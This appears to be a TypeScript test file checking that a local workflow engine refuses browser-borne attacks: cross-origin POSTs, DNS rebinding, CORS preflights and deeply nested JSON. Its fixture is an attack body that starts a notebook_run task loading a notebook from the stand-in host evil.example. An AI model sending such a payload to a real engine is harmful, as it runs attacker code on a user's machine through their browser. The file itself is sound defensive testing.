/**
 * What a web page open in the user's browser can do to a running engine: nothing. The outside test's
 * reproduction (a cross-origin text/plain POST /api/workflow starting an inline notebook_run workflow,
 * and DNS-rebinding reads under a foreign Host) is refused with and without authentication, no CORS is
 * ever granted, and deeply nested JSON is a 400, not a 500.
 */
import net from 'node:net';

import { httpRequest, type HttpAnswer } from '../helpers/http';
import { startTestEngine, type TestEngine } from '../helpers/engine';
import { authenticate, raw } from './support';

/** The attack: an inline workflow whose notebook_run loads the attacker's notebook. */
const ATTACK_BODY = JSON.stringify({
  name: 'pwn',
  workflowDef: {
    name: 'pwn',
    version: 1,
    schemaVersion: 2,
    tasks: [
      {
        name: 'notebook_run',
        taskReferenceName: 'pwn',
        type: 'SIMPLE',
        inputParameters: { notebook: 'https://evil.example/pwn.ipynb' },
      },
    ],
  },
  input: {},
});

function message(r: HttpAnswer): string {
  return (r.json as { message: string }).message;
}

function hostOf(url: string): string {
  return new URL(url).host;
}

describe.each(['none', 'token'] as const)('an engine with auth %s', (auth) => {
  let engine: TestEngine;

  beforeAll(async () => {
    engine = await startTestEngine({ memory: true, auth });
    await authenticate(engine.url, engine.credentials);
  });
  afterAll(async () => {
    await engine?.stop();
  });

  async function noWorkflowStarted(): Promise<void> {
    const r = await raw(engine.url, 'GET', '/api/workflow/search?query=workflowType%3Dpwn');
    expect(r.status).toBe(200);
    expect(r.json).toMatchObject({ totalHits: 0 });
    const queue = await raw(engine.url, 'GET', '/api/tasks/queue/size?taskType=notebook_run');
    expect(queue.json).toBe(0);
  }

  it('refuses the reproduction: cross-origin text/plain POST /api/workflow under Host evil.example', async () => {
    const port = new URL(engine.url).port;
    const r = await httpRequest(engine.url, {
      method: 'POST',
      path: '/api/workflow',
      headers: {
        host: `evil.example:${port}`,
        origin: 'https://evil.example',
        'content-type': 'text/plain;charset=UTF-8',
      },
      body: ATTACK_BODY,
    });
    expect(r.status).toBe(403);
    expect(message(r)).toMatch(/Host "evil\.example:\d+" is not a loopback address/);
    expect(r.headers['access-control-allow-origin']).toBeUndefined();
    await noWorkflowStarted();
  });

  it('refuses a foreign Origin even under a loopback Host, JSON body or not', async () => {
    for (const type of ['text/plain', 'application/json']) {
      const r = await httpRequest(engine.url, {
        method: 'POST',
        path: '/api/workflow',
        headers: { host: hostOf(engine.url), origin: 'https://evil.example', 'content-type': type },
        body: ATTACK_BODY,
      });
      expect(r.status).toBe(403);
      expect(message(r)).toContain('cross-origin request from "https://evil.example"');
    }
    // a sandboxed frame or file: page says Origin: null
    const nul = await httpRequest(engine.url, {
      method: 'POST',
      path: '/api/workflow',
      headers: { host: hostOf(engine.url), origin: 'null', 'content-type': 'application/json' },
      body: ATTACK_BODY,
    });
    expect(nul.status).toBe(403);
    await noWorkflowStarted();
  });

  it('answers 415 to a body that is not application/json (a "simple" request a page can send)', async () => {
    for (const type of [
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
    ]) {
      const res = await httpRequest(engine.url, {
        method: 'POST',
        path: '/api/workflow',
        headers: { host: hostOf(engine.url), 'content-type': type },
        body: ATTACK_BODY,
      });
      expect(res.status).toBe(415);
      expect(res.text).toContain('request bodies must be application/json');
    }
    const none = await httpRequest(engine.url, {
      method: 'PUT',
      path: '/api/metadata/workflow',
      headers: { host: hostOf(engine.url) },
      body: '[]',
    });
    expect(none.status).toBe(415);
    await noWorkflowStarted();
  });

  it('refuses DNS-rebinding reads: a GET under a foreign Host learns nothing', async () => {
    for (const path of ['/api/metadata/workflow', '/api/workflow/running/pwn', '/health', '/nope']) {
      const r = await httpRequest(engine.url, {
        path,
        headers: { host: `attacker.example:${new URL(engine.url).port}` },
      });
      expect(r.status).toBe(403);
    }
    // HTTP/1.0 without a Host header at all
    const answer = await new Promise<string>((resolve, reject) => {
      const socket = net.connect(Number(new URL(engine.url).port), '127.0.0.1', () =>
        socket.write('GET /health HTTP/1.0\r\n\r\n'),
      );
      let text = '';
      socket.on('data', (d: Buffer) => (text += d.toString()));
      socket.on('end', () => resolve(text));
      socket.on('error', reject);
    });
    expect(answer).toMatch(/^HTTP\/1\.1 403 /);
  });

  it('refuses cross-site subresource loads without an Origin (an <img> poll steals no task)', async () => {
    const r = await httpRequest(engine.url, {
      path: '/api/tasks/poll/batch/notebook_run?count=5',
      headers: { host: hostOf(engine.url), 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors' },
    });
    expect(r.status).toBe(403);
  });

  it('grants no CORS: a preflight gets no Access-Control-* header', async () => {
    const r = await httpRequest(engine.url, {
      method: 'OPTIONS',
      path: '/api/workflow',
      headers: {
        host: hostOf(engine.url),
        origin: 'https://evil.example',
        'access-control-request-method': 'POST',
        'access-control-request-headers': 'content-type',
      },
    });
    expect(r.status).toBe(403);
    expect(Object.keys(r.headers).filter((h) => h.startsWith('access-control-'))).toEqual([]);
  });

  it('accepts loopback names and same-origin requests (the engine still works)', async () => {
    const port = new URL(engine.url).port;
    for (const host of [`localhost:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`, `127.1.2.3:${port}`]) {
      const r = await httpRequest(engine.url, { path: '/health', headers: { host } });
      expect(r.status).toBe(200);
    }
    const same = await httpRequest(engine.url, {
      path: '/health',
      headers: { host: hostOf(engine.url), origin: engine.url, 'sec-fetch-site': 'same-origin' },
    });
    expect(same.status).toBe(200);
  });

  it('answers 400, not 500, to deeply nested JSON, and keeps serving', async () => {
    const deep = '['.repeat(5000) + ']'.repeat(5000);
    await raw(engine.url, 'POST', '/api/metadata/workflow', {
      name: 'deep',
      version: 1,
      schemaVersion: 2,
      tasks: [
        { name: 'x', taskReferenceName: 'x', type: 'SIMPLE', inputParameters: { v: '${workflow.input.v}' } },
      ],
    });
    const start = await raw(engine.url, 'POST', '/api/workflow/deep', undefined, `{"v":${deep}}`);
    expect(start.status).toBe(400);
    expect(start.json).toMatchObject({
      status: 400,
      message: expect.stringContaining('nested deeper than 1000'),
    });
    const def = await raw(
      engine.url,
      'POST',
      '/api/metadata/workflow',
      undefined,
      `{"name":"q","tasks":${deep}}`,
    );
    expect(def.status).toBe(400);
    // what Conductor's JSON reader accepts still goes through
    const ok = await raw(
      engine.url,
      'POST',
      '/api/workflow/deep',
      undefined,
      `{"v":${'['.repeat(900)}${']'.repeat(900)}}`,
    );
    expect(ok.status).toBe(200);
    expect((await raw(engine.url, 'GET', '/health')).status).toBe(200);
  });
});
